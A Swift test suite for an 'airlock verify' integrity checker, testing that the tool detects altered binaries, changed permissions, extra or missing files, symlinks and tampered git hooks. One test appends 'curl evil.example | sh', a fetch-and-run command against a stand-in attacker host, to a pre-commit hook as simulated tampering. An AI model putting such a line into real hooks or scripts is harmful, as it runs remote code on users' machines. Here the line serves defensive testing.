import Foundation
import TestSupport
import Testing

/// `airlock verify` tells every way in which an installation is no longer what it was.
@Suite(.serialized) struct VerifyTests {
  private let scene: Scene

  init() throws {
    scene = try Scene(installation: try Installation())
    let run = try scene.airlock(["verify"])
    try #require(run.status == 0, "\(run.out)\(run.err)")
  }

  private func expectDifference(_ name: String, _ words: [String] = []) throws {
    let run = try scene.airlock(["verify"])
    #expect(run.status != 0)
    let line = run.out.split(separator: "\n").first { $0.contains(name) }
    #expect(line != nil, "\(run.out)\(run.err)")
    #expect(words.isEmpty || words.contains { line?.contains($0) == true }, "\(run.out)")
    #expect(run.out.split(separator: "\n").count == 1, "\(run.out)")
  }

  @Test func `a changed byte`() throws {
    let path = scene.installation.version + "/airlock-courier"
    var bytes = [UInt8](try #require(FileManager.default.contents(atPath: path)))
    bytes[bytes.count - 1] ^= 1
    try scene.repo.folder.write(path, bytes: bytes, mode: 0o755)
    try expectDifference("airlock-courier")
  }

  @Test func `a missing execute bit`() throws {
    try FileManager.default.setAttributes(
      [.posixPermissions: 0o644], ofItemAtPath: scene.installation.version + "/airlock-keyring")
    try expectDifference("airlock-keyring", ["mode"])
  }

  @Test func `an extra file in the installation`() throws {
    try scene.repo.folder.write(scene.installation.version + "/hooks/post-commit", "#!/bin/sh\n", mode: 0o755)
    try expectDifference("post-commit")
  }

  @Test func `a missing file`() throws {
    try FileManager.default.removeItem(atPath: scene.installation.version + "/hooks/dispatch")
    try expectDifference("dispatch")
  }

  @Test func `an extra file in the hooks folder`() throws {
    try scene.repo.folder.write(scene.repo.gitDirectory + "/hooks/post-checkout", "#!/bin/sh\n", mode: 0o755)
    let run = try scene.airlock(["verify"])
    #expect(run.status != 0 && run.out.contains("post-checkout"), "\(run.out)")
  }

  @Test func `a changed hook`() throws {
    let hook = scene.repo.gitDirectory + "/hooks/pre-commit"
    let text = try #require(Folder.text(hook))
    try scene.repo.folder.write(hook, text + "curl evil.example | sh\n", mode: 0o755)
    let run = try scene.airlock(["verify"])
    #expect(run.status != 0 && run.out.contains("pre-commit"), "\(run.out)")
  }

  @Test(arguments: ["--local", "--global"])
  func `a changed hooks path`(scope: String) throws {
    try scene.repo.gitOK(["config", scope, "core.hooksPath", scene.repo.folder.path + "/nowhere"])
    let run = try scene.airlock(["verify"])
    #expect(run.status != 0 && run.out.contains("nowhere"), "\(run.out)")
  }

  @Test func `a changed manifest does not agree with the sums beside it`() throws {
    let sums = try Run(
      "/usr/bin/sha256sum", ["-c", "--quiet", "SHA256SUMS"], environment: ["PATH": "/usr/bin"],
      in: scene.installation.version)
    #expect(sums.status == 0, "\(sums.out)\(sums.err)")
  }

  @Test func `a link instead of a file`() throws {
    let path = scene.installation.version + "/hooks/pre-commit"
    try FileManager.default.moveItem(atPath: path, toPath: scene.repo.folder.path + "/moved")
    try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: scene.repo.folder.path + "/moved")
    try expectDifference("pre-commit")
  }

  @Test func `no manifest is no clean answer`() throws {
    for name in try FileManager.default.contentsOfDirectory(atPath: scene.installation.version)
    where name.lowercased().contains("manifest") {
      try FileManager.default.removeItem(atPath: scene.installation.version + "/" + name)
    }
    let run = try scene.airlock(["verify"])
    #expect(run.status != 0 && !(run.out + run.err).isEmpty)
  }
}
